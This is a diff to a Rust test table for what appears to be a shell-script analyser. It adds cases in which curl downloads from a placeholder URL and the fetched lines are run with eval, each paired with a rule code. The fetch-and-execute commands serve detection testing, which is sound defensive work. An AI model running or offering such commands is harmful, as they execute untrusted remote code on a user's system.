@@ -272,6 +272,11 @@ const CASES: &[(&str, &str)] = &[
     ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; x=$(cat f); eval \"$x\"", "0055"),
     ("read -r x < list; eval \"$x\"; curl -so d/f https://x/y; x=$(< ./d//f); eval \"$x\"", "0055"),
     ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; if [ -n \"$a\" ]; then cd b; fi; . ./f", "0055"),
+    ("curl -s https://x/y > f; read -r l < f; eval \"$l\"", "0056"),
+    ("curl -s https://x/y > f; while read -r l; do eval \"$l\"; done < f", "0056"),
+    ("curl -s https://x/y > f; mapfile -t a < f; eval \"${a[0]}\"", "0056"),
+    ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; read -r l < f; eval \"$l\"", "0055"),
+    ("curl -s https://x/y > f; read -r l < g; eval \"$l\"", "0047"),
     ("echo true > f; x=$(< f); eval \"$x\"", "0007"),
     ("read -r x < list; eval \"$x\"; echo true > f; x=$(cat f); eval \"$x\"", "0005"),
     // --- return, break and continue leave the state they find ---------------------------------
